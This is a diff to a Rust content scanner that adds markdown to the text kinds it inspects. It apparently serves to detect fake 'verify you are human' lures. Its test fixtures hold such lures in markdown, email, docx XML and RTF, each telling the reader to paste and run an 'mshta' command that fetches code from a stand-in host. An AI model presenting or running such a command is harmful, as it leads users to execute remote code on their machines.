@@ -33,7 +33,9 @@ pub(super) fn wants(part: &Part) -> bool {
     let within = |kinds: &[&str]| part.within.iter().any(|id| kinds.contains(&&**id));
     match () {
         () if part.is("ics") || part.is("vcard") => part.size <= MESSAGE,
-        () if part.is("text") || part.is("mail-body") => part.size <= if mail { MESSAGE } else { NOTE },
+        () if ["text", "mail-body", "markdown"].iter().any(|kind| part.is(kind)) => {
+            part.size <= if mail { MESSAGE } else { NOTE }
+        }
         () if part.is("html") => (mail || within(&["ics", "vcard"])) && part.size <= MESSAGE,
         () if FLAT.iter().any(|kind| part.is(kind)) => part.size <= 8 * MESSAGE,
         // Of a document's markup only the words count, which are a tenth of it.
@@ -163,6 +165,7 @@ mod tests {
         let document = made("xml", Class::Data, Role::Member, "docx");
         let note = made("text", Class::Text, Role::Sample, "");
         let rich = made("rtf", Class::Document, Role::Sample, "");
+        let guide = made("markdown", Class::Text, Role::Member, "zip");
         let flat = made("fodt", Class::Document, Role::Attachment, "eml");
         for (part, text) in [
             (&mail(), "To verify you are human press Win+R, Ctrl+V and Enter:\nmshta https://host.invalid/a"),
@@ -185,6 +188,7 @@ mod tests {
                 &document,
                 "<w:p><w:r><w:t>Verify you are human: press Win+R, Ctrl+V </w:t></w:r></w:p><w:p><w:r><w:t>msh</w:t></w:r><w:r><w:t>ta https://host.invalid/a</w:t></w:r></w:p>",
             ),
+            (&guide, "# Verify\nVerify you are human: press Win+R, Ctrl+V:\n`mshta https://host.invalid/a`"),
             (
                 &rich,
                 "{\\rtf1{\\fonttbl{\\f0 Arial;}}To verify you are human press {\\b Win}+R, Ctrl+V\\par\r\nmsh\\b0 ta \\'68ttps://host.invalid/a\\par}",
